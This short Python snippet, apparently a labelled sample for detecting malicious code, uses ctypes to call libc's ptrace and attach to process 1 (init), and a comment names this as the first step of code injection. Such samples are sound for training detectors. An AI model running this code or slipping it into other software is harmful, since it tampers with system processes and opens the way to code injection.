# Malicious: uses ptrace through libc to attach to another process (PID 1), the first step of code injection.
import ctypes

PTRACE_ATTACH = 16
libc = ctypes.CDLL("libc.so.6", use_errno=True)
libc.ptrace(PTRACE_ATTACH, 1, None, None)
